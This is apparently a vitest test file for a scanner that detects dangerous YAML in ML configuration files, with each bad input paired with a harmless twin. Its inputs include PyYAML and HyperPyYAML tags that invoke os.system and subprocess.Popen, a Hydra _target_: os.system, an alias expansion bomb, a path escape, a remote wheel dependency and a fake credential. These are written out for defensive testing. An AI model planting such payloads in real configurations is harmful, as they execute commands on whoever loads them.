import { describe, expect, test } from "vitest";
import { scanBytes, told } from "../builders/scan.js";

const scan = async (text: string, name = "config.yaml") => told(await scanBytes(name, text));

const cases: readonly (readonly [what: string, bad: string, expected: readonly string[], twin: string])[] = [
  [
    "a call by a tag",
    "x: !!python/object/apply:os.system [id]",
    ["critical config/unsafe-yaml-tag"],
    "x: !!python/tuple [1, 2]",
  ],
  [
    "an object by a tag",
    "x: !!python/object/new:os.system [id]",
    ["critical config/unsafe-yaml-tag"],
    "x: !!str os.system",
  ],
  ["a name by a tag", "x: !!python/name:os.system ''", ["high config/unsafe-yaml-tag"], "x: os.system"],
  [
    "a tag behind a directive",
    "%TAG ! tag:yaml.org,2002:\n---\nx: !python/object/apply:os.system [id]",
    ["critical config/unsafe-yaml-tag"],
    "%TAG ! tag:x,2002:\n---\nx: !python/object/apply:os.system [id]",
  ],
  [
    "a tag written in full",
    "x: !<tag:yaml.org,2002:python/object/apply:os.system> [id]",
    ["critical config/unsafe-yaml-tag"],
    "x: !<tag:yaml.org,2002:map> {}",
  ],
  ["a call by HyperPyYAML", "x: !new:subprocess.Popen [[id]]", ["critical config/unsafe-yaml-tag"], "x: !ref <y>"],
  [
    "a class of a known package",
    "x: !new:speechbrain.nnet.CNN.Conv1d\n  a: 1",
    ["low config/unsafe-yaml-tag"],
    "x: {a: 1}",
  ],
  [
    "a call of an unknown package",
    "x: !!python/object/apply:mypkg.make []",
    ["medium config/unsafe-yaml-tag"],
    "x: !mypkg.make []",
  ],
  [
    "a name of an unknown package",
    "x: !!python/name:material.emoji ''",
    ["low config/unsafe-yaml-tag"],
    "x: !ENV [A, b]",
  ],
  ["a Java class", "x: !!javax.script.ScriptEngineManager []", ["medium config/unsafe-yaml-tag"], "x: !!omap []"],
  [
    "a target",
    "m:\n  _target_: os.system\n  command: id",
    ["critical config/unsafe-target"],
    "m:\n  _target_: torch.optim.Adam\n  lr: 1",
  ],
  [
    "a loader of MLflow",
    "flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code",
    ["medium serving/loader-module"],
    "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl",
  ],
  [
    "a path of MLflow",
    "flavors:\n  f:\n    data: ../../etc",
    ["high config/path-escape"],
    "flavors:\n  f:\n    data: data",
  ],
  [
    "a package from an odd place",
    "dependencies:\n- pip:\n  - evil @ http://203.0.113.7/e.whl",
    ["medium config/remote-dependency", "low network/ip-address"],
    "dependencies:\n- pip:\n  - mlflow==2.11.0\n  - peft @ git+https://github.com/huggingface/peft",
  ],
  ["a credential", "token: AKIAQ3EGZ7TWLKVN4R2D", ["medium secrets/credential"], "token: null"],
];

describe("what a YAML file can do", () => {
  test.each(cases)("%s is told", async (_what, bad, expected) => {
    expect(await scan(bad)).toEqual(expected);
  });

  test.each(cases)("%s has a harmless twin", async (_what, _bad, _expected, twin) => {
    expect(await scan(twin)).toEqual([]);
  });

  test("a finding names the place, the call and the offset", async () => {
    const [finding] = (await scanBytes("c.yaml", "é: !!python/object/apply:os.system ['id']\n")).findings;
    expect(finding?.message).toBe('!!python/object/apply at é calls os.system("id")');
    expect(finding?.offset).toBe(4);
  });
});

describe("expansion", () => {
  const bomb = (levels: number) =>
    [
      "l0: &l0 [x, x]",
      ...Array.from({ length: levels }, (_, i) => `l${i + 1}: &l${i + 1} [${Array(10).fill(`*l${i}`).join(", ")}]`),
    ].join("\n");

  test("aliases of aliases are a bomb", async () => {
    expect(await scan(bomb(8))).toEqual(["medium config/expansion-bomb"]);
  });

  test("aliases as people use them are none", async () => {
    expect(await scan("base: &base {lr: 1}\na: {<<: *base}\nb: {<<: *base}\n")).toEqual([]);
    expect(await scan(bomb(2))).toEqual([]);
  });

  test("an anchor inside itself is told only when it is one", async () => {
    expect(await scan("a: &a [*a]")).toEqual(["medium config/expansion-bomb"]);
  });
});

describe("text that is no YAML", () => {
  test("is malformed when its name promises YAML", async () => {
    expect(await scan("a: [1\nb: 2")).toEqual(["medium analysis/malformed"]);
  });

  test("is searched for tags and targets all the same", async () => {
    expect(await scan("a: [1\nb: !!python/object/apply:os.system [id]")).toEqual([
      "critical config/unsafe-yaml-tag",
      "medium analysis/malformed",
    ]);
    expect(await scan("a: [1\n_target_: os.system", "notes.dat")).toEqual([
      "critical config/unsafe-target",
      "medium analysis/malformed",
    ]);
  });

  test("that only looked like YAML is nothing", async () => {
    expect(await scan("Title: a\nNote: b: c\nMore: [d\nEnd: e\n", "notes")).toEqual([]);
  });
});
